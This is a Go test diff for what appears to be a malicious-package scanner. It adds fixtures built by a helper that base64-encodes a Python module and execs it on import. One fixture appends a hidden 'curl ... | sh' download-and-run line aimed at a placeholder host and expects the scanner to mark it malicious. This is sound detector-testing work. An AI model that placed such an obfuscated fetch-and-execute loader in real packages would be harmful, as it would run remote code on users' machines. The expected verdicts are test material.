@@ -4,6 +4,8 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -55,6 +57,8 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"a test encoding pickled bytes into the source it builds, another test executing its own source", map[string]string{"tests/test_pickle.py": "" +
 			"import base64, textwrap, types\ndef test_a():\n    mod = types.ModuleType('mod')\n    code = '''\n    x = 1\n    '''\n    exec(textwrap.dedent(code), mod.__dict__)\n" +
 			"def test_b(dumped):\n    code = '''if 1:\n        x = {}\n    '''.format(base64.b32encode(dumped).decode('ascii'))\n    exec(code)\n"}, "", Clean},
+		{"a tool running a compressed copy of its own source on import", map[string]string{"p/__init__.py": selfLoader("")}, "", Clean},
+		{"the same loader whose copy also runs a download", map[string]string{"p/__init__.py": selfLoader("os.system('curl -s https://example.invalid/x | sh')\n")}, "exec-obfuscated", Malicious},
 		{"a test executing base32-decoded code", map[string]string{"tests/test_x.py": "" +
 			"import base64\ndef test_a():\n    exec(base64.b32decode('NFWXA33SOQQG64Y=').decode())\n"}, "exec-obfuscated", Malicious},
 
@@ -173,6 +177,21 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"the same command registered as install", map[string]string{"setup.py": previewCommand("install")}, "suspicious-command", Suspicious},
 	}
 	runVerdictCases(t, tests, nil)
+}
+
+// selfLoader is a module that decodes a copy of its own source and runs
+// it into its globals, stubbing one of the functions the copy defines
+// (versioneer's installed form), with extra appended to the copy.
+func selfLoader(extra string) string {
+	var code strings.Builder
+	code.WriteString("import os\n\ndef get_version():\n    return '1.0'\n\ndef setup_command():\n    return {'version': get_version()}\n\n")
+	for i := 0; code.Len() < 6000; i++ {
+		fmt.Fprintf(&code, "def render_%d(pieces):\n    return '+'.join(str(p) for p in pieces) + '.%d'\n\n", i, i)
+	}
+	code.WriteString(extra)
+	blob := base64.StdEncoding.EncodeToString([]byte(code.String()))
+	return "import base64\nLOADER_B64 = '" + blob + "'\nLOADER = base64.b64decode(LOADER_B64.encode('ASCII'))\n" +
+		"def setup_command(): ...\nexec(LOADER.decode(), globals())\n"
 }
 
 func previewCommand(key string) string {
